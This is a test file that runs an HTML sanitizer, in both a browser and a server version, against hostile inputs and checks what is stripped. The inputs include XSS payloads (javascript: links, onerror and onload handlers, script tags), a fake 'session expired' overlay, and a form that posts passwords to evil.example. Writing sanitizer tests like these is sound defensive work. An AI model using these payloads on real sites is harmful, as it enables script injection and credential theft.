import { describe, expect, it } from 'vitest';
import { loadHtmlSanitizer } from '../../../runtime/render/browserHtmlSanitizer';
import type { HtmlSanitizer } from '../../../runtime/render/serverHtmlSanitizer';
import { jsdomHtmlSanitizer } from '../../../runtime/ssr/jsdomHtmlSanitizer';

/** Rich text as the browser (DOMPurify over this test's DOM) and the server render make it. */
const sanitizers: [string, () => Promise<HtmlSanitizer>][] = [
  ['browser', loadHtmlSanitizer],
  ['server', () => Promise.resolve(jsdomHtmlSanitizer())],
];

describe.each(sanitizers)('rich text sanitized by the %s sanitizer', (_where, load) => {
  it('drops style attributes and elements: no overlay over the page', async () => {
    const sanitize = await load();
    const html = sanitize(
      '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Your session expired</div>' +
        '<style>body{display:none}</style><p style="color:red">Red</p>',
    );
    expect(html).toBe('<div>Your session expired</div><p>Red</p>');
  });

  it('drops forms, password inputs and every other form control', async () => {
    const sanitize = await load();
    const html = sanitize(
      '<form action="https://evil.example/steal" method="post"><label>Password <input type="password" name="password"></label>' +
        '<input type="text" name="user"><select><option>a</option></select><textarea>x</textarea>' +
        '<button formaction="https://evil.example">Sign in</button></form><p>After</p>',
    );
    expect(html).not.toMatch(/<form|<input|<button|<select|<textarea|<label|action=/i);
    expect(html).toContain('<p>After</p>');
  });

  it('prefixes ids and names, so content cannot clobber globals or the page own elements', async () => {
    const sanitize = await load();
    const html = sanitize(
      '<a id="blockfront-first-page">a</a><img name="dataLayer" src="/x.png"><p id="root">r</p>' +
        '<a id="user-content-kept">k</a>',
    );
    expect(html).toContain('id="user-content-blockfront-first-page"');
    expect(html).toContain('name="user-content-dataLayer"');
    expect(html).toContain('id="user-content-root"');
    expect(html).toContain('id="user-content-kept"');
    expect(html).not.toMatch(/id="(blockfront-first-page|root)"|name="dataLayer"/);
  });

  it('keeps in-page links and id references working under the prefix', async () => {
    const sanitize = await load();
    const html = sanitize(
      '<a href="#specs">Specs</a><h2 id="specs">Specs</h2>' +
        '<table><tr><th id="h1">Size</th></tr><tr><td headers="h1">50 µl</td></tr></table>' +
        '<p aria-describedby="n1 n2">x</p>',
    );
    expect(html).toContain('href="#user-content-specs"');
    expect(html).toContain('id="user-content-specs"');
    expect(html).toContain('headers="user-content-h1"');
    expect(html).toContain('aria-describedby="user-content-n1 user-content-n2"');
  });

  it('takes links and images through the URL policy', async () => {
    const sanitize = await load();
    const html = sanitize(
      '<a href="java&#x09;script:alert(1)">1</a><a href="/\\evil.example">2</a>' +
        '<a href="//evil.example">3</a><a href="vbscript:x">4</a><a href="/support#coa">5</a>' +
        '<a href="https://cellaris.example/a">6</a><img src="data:image/svg+xml,<svg onload=alert(1)>">' +
        '<img src="http://tracker.example/p.gif"><img src="/static/a.png" srcset="https://evil.example/a.png 2x">',
    );
    expect(html).toBe(
      '<a>1</a><a>2</a><a>3</a><a>4</a><a href="/support#coa">5</a>' +
        '<a href="https://cellaris.example/a">6</a><img><img><img src="/static/a.png">',
    );
  });

  it("keeps the content's own classes but none of the app's, and no data attributes", async () => {
    const sanitize = await load();
    const html = sanitize(
      '<p class="lead bf-modal-backdrop BF-toast-area">Lead</p><div class="bf-overlay">x</div>' +
        '<div data-block-id="header-1" data-bf-content="k">y</div>',
    );
    expect(html).toBe('<p class="lead">Lead</p><div>x</div><div>y</div>');
  });

  it('keeps no SVG or MathML, scripts or handlers', async () => {
    const sanitize = await load();
    const html = sanitize(
      '<svg><a href="javascript:alert(1)"><text>x</text></a></svg><math><mi>x</mi></math>' +
        '<img src=x onerror=alert(1)><script>alert(2)</script><p onclick="alert(3)">ok</p>',
    );
    expect(html).not.toMatch(/svg|math|onerror|onclick|script|javascript/i);
    expect(html).toContain('<p>ok</p>');
  });
});
